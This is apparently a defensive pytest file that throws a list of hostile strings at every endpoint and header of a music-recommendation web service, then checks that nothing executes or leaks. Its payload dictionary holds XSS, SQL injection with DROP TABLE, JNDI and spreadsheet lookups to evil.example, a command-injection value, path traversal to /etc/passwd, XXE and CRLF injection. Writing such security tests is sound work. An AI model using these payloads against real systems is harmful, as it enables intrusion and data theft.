"""Whatever comes from outside, at every place where it can come in, against one real application.

Each input is answered by an error or an answer of its form, tells nothing of the inside, executes nothing in a page,
and leaves a server that answers the next. Files that are imported: `tests/importers/test_hostile_files.py`.
"""

import base64
import json
from pathlib import Path
from typing import Any

import pytest
from tests.web.hostile.door import AT, OWN, ROCK, Case, event, harmless, pct

TEXTS = {
    "script": "<script>alert(1)</script>",
    "attribute": '"><img src=x onerror=alert(1)>',
    "single quote": "' autofocus onfocus=alert(1) x='",
    "script address": "javascript:alert(document.domain)",
    "svg": "<svg/onload=alert(1)//",
    "end of a comment": "--><!--<iframe src=//evil.example>",
    "end of json": "</script><script>alert(1)",
    "sql": "' OR '1'='1'; DROP TABLE listeners;--",
    "sql union": "1 UNION SELECT sha256 FROM keys--",
    "sql like": "%_%' ESCAPE '",
    "template": "{{7*7}}{% import os %}${7*7}#{7*7}",
    "format": "%s%n%x{0.__class__.__mro__}",
    "lookup": "${jndi:ldap://evil.example/x}",
    "shell": "$(touch /tmp/segue-pwned);`id`|id&&id",
    "path": "../../../../../../etc/passwd",
    "path encoded": "..%2f..%2f..%5c..%5ckeys.json",
    "path of windows": "..\\..\\keys.secret",
    "path absolute": "/etc/passwd",
    "file address": "file:///etc/passwd",
    "nul": "keys.json\x00.png",
    "new lines": "x\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
    "line separators": "a\u2028b\u2029c\x85d",
    "spreadsheet": "=HYPERLINK(\"http://evil.example\";\"x\")",
    "entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "cdata": "]]><x>",
    "right to left": "\u202egnp.exe\u2066",
    "zero width": "a\u200b\u200d\ufeffb",
    "combining": "Z" + "\u0351\u0363\u035b" * 60,
    "astral": "\U0001f469\u200d\U0001f469\u200d\U0001f467" * 20,
    "one letter three ways": "\u212b\u00c5A\u030a\ufb03\u2460",
    "not utf-8": "\udcff\udcfe\udc80",
    "lone surrogate": "\ud800",
    "noncharacter": "\uffff\ufdd0\U0010ffff",
    "control": "".join(map(chr, range(1, 32))) + "\x7f",
    "number": "9" * 400,
    "not a number": "NaN",
    "json": '{"$gt": "", "__proto__": {"admin": true}}',
    "regular expression": "(a+)+$" + "a" * 60 + "!",
    "long": "\u00e4" * 9_000,
    "blank": " \t ",
    "empty": "",
}  # fmt: skip


def query(path: str, name: str, /, **more: str) -> Any:
    rest = "".join(f"&{k}={pct(v)}" for k, v in more.items())
    return lambda text: Case("GET", f"{path}?{name}={pct(text)}{rest}")


def within(before: str, after: str = "", method: str = "GET") -> Any:
    return lambda text: Case(method, before + pct(text) + after)


def body(path: str, make: Any, **headers: str) -> Any:
    """JSON that holds the text; what no JSON can hold goes in as an escape."""
    return lambda text: Case("POST", path, {"content": json.dumps(make(text)).encode(), "headers": headers})


def form(path: str, name: str, headers: dict[str, str] | None = None, /, **more: str) -> Any:
    def make(text: str) -> Case:
        content = "&".join(f"{k}={pct(v)}" for k, v in {name: text, **more}.items())
        kind = {"content-type": "application/x-www-form-urlencoded"} | (headers or {})
        return Case("POST", path, {"content": content.encode(), "headers": kind})

    return make


def header(path: str, name: str, before: str = "") -> Any:
    def make(text: str) -> Case:
        value = before.encode() + text.encode("utf-8", "surrogatepass")
        return Case("GET", path, {"headers": [(name.encode(), value)]})

    return make


LISTEN = {"artist_name": "A", "track_name": "B"}
PLACES = {
    "home: listener": query("/v1/home", "listener"),
    "home: zone": query("/v1/home", "zone", listener="L0"),
    "home: exclude": query("/v1/home", "exclude", listener="L0"),
    "home: activity": query("/v1/home", "activity", listener="L0"),
    "home: unknown parameter": lambda text: Case("GET", f"/v1/home?listener=L0&{pct(text)}=1"),
    "recommendations: words": query("/v1/recommendations", "words", listener="L0"),
    "recommendations: seed": query("/v1/recommendations", "seed", listener="L0"),
    "recommendations: n": query("/v1/recommendations", "n", listener="L0"),
    "items: q": query("/v1/items", "q"),
    "items: uri": within("/v1/items/"),
    "items: clip": within("/v1/items/", "/clip"),
    "items: about": within("/v1/items/", "/about"),
    "search: q": query("/v1/search", "q"),
    "search: kind": query("/v1/search", "kind", q="song"),
    "items: kind": query("/v1/items", "kind", q="song"),
    "radio: seed": query("/v1/radio", "seed"),
    "path: from": query("/v1/path", "from", to=ROCK),
    "listeners: prefix": query("/v1/listeners", "prefix"),
    "listeners: history": within("/v1/listeners/", "/history"),
    "listeners: taste": within("/v1/listeners/", "/taste"),
    "listeners: export": within("/v1/listeners/", "/export", "POST"),
    "listeners: erase": within("/v1/listeners/", "", "DELETE"),
    "playlists: name": within("/v1/playlists/", ".xspf"),
    "checks: name": within("/v1/checks/"),
    "dead letters: id": within("/v1/dead-letters/"),
    "audit: client": query("/v1/audit", "client"),
    "imports: id": within("/v1/imports/", "/quarantine"),
    "waivers: finding": within("/v1/waivers/", "?reason=x", "PUT"),
    "waivers: reason": within("/v1/waivers/a:b?reason=", "", "PUT"),
    "imports: before": query("/v1/imports", "before"),
    "releases: promote": within("/v1/releases/", "/promote", "POST"),
    "releases: expected": lambda text: Case("POST", f"/v1/releases/rollback?expected={pct(text)}"),
    "events: listener": body("/v1/events", lambda text: event(listener=text)),
    "events: id": body("/v1/events", lambda text: event(id=text)),
    "events: item": body("/v1/events", lambda text: event(item=text)),
    "events: type": body("/v1/events", lambda text: event(type=text)),
    "events: tenant": body("/v1/events", lambda text: event(tenant=text)),
    "events: field": body("/v1/events", lambda text: event() | {text: text}),
    "events: attrs": body("/v1/events", lambda text: event(id="a" + text[:50], attrs={text[:200]: text})),
    "events: client": body("/v1/events", lambda text: {"events": [event()], "client": text, "first": 1}),
    "events: client in a header": header("/v1/events", "segue-client"),
    "receipts: listener": body("/v1/receipts/verify", lambda text: {"id": text, "listener": text, "signature": text}),
    "listenbrainz: user": within("/1/user/", "/listens"),
    "listenbrainz: playlist": within("/1/playlist/"),
    "listenbrainz: track": body(
        "/1/submit-listens",
        lambda text: {
            "listen_type": "single",
            "payload": [
                {
                    "listened_at": AT // 1000,
                    "track_metadata": {
                        **LISTEN,
                        "track_name": text,
                        "release_name": text,
                        "additional_info": {text[:99]: text},
                    },
                }
            ],
        },
        authorization="Token OWN",
    ),
    "listenbrainz: token": header("/1/validate-token", "authorization", "Token "),
    "subsonic: query": query("/rest/search3", "query", apiKey="OWN", v="1.16.1", c="x"),
    "subsonic: user": query("/rest/ping", "u", p="x", c="x"),
    "subsonic: method": within("/rest/", "?apiKey=OWN"),
    "subsonic: format": query("/rest/ping", "f", apiKey="OWN"),
    "subsonic: playlist": query("/rest/createPlaylist", "name", apiKey="OWN", songId=ROCK),
    "lastfm: method": query("/2.0/", "method", api_key="x"),
    "lastfm: track": form(
        "/2.0/", "track", method="track.scrobble", artist="A", api_key="x", sk="SESSION", timestamp="1790000000"
    ),
    "lastfm: consent": query("/api/auth", "token"),
    "lastfm: name at the consent": form("/api/auth", "user", OWN, token="x", key="y"),
    "gpodder: device": within("/api/2/devices/L0/", ".json", "POST"),
    "gpodder: episodes": query("/api/2/episodes/L0.json", "podcast"),
    "pages: item": within("/item/"),
    "pages: listener": within("/listener/"),
    "pages: home": query("/", "listener"),
    "pages: after signing in": query("/signin", "next"),
    "pages: name at sign-in": form("/signin", "name", OWN, password="wrong password"),
    "pages: token of set-up": form("/setup", "token", OWN, name="ada", password="x" * 12, again="x" * 12),
    "pages: tenant that is chosen": form("/tenant", "tenant", OWN | {"cookie": "segue_session=OPERATOR"}),
    "pages: after choosing a tenant": form(
        "/tenant", "next", OWN | {"cookie": "segue_session=OPERATOR"}, tenant="default"
    ),
    "static": within("/static/"),
    "anywhere": within("/"),
    "header: authorization": header("/v1/console", "authorization", "Bearer "),
    "header: basic": lambda text: header("/api/2/devices/L0.json", "authorization", "Basic ")(
        base64.b64encode(text.encode("utf-8", "surrogatepass")).decode()
    ),
    "header: session": header("/v1/console", "cookie", "segue_session="),
    "header: tenant of the page": header("/v1/console", "segue-tenant"),
    "header: cookie of podcast apps": header("/api/2/devices/L0.json", "cookie", "sessionid="),
    "header: host": header("/v1/items?q=a", "host"),
    "header: origin": header("/v1/items?q=a", "origin"),
    "header: range": header(f"/v1/items/{ROCK}/clip", "range", "bytes="),
    "header: if-none-match": header("/v1/space", "if-none-match"),
    "header: user agent": header("/", "user-agent"),
    "header: request id": header("/", "x-request-id"),
    "header: trace": header("/", "traceparent"),
}
ASKS_NOBODY = ("header: authorization", "header: session", "listenbrainz: token", "header: basic")


@pytest.mark.parametrize("place", PLACES)
def test_text_at_every_place(door, place):
    for name, text in TEXTS.items():
        case = PLACES[place](text)
        try:
            answer = door.ask(case)
        except UnicodeError:
            continue  # the client itself cannot send it
        try:
            harmless(door, answer)
            if place in ASKS_NOBODY:
                assert answer.status_code in (200, 400, 401, 403), name
                assert '"valid":true' not in answer.text
        except Exception as e:
            raise AssertionError(f"{place}, {name}: {case.method} {case.path[:200]}: {e}") from e
    assert door.client.get("/api/health/ready").status_code == 200


def test_nothing_was_executed():
    assert not Path("/tmp/segue-pwned").exists()
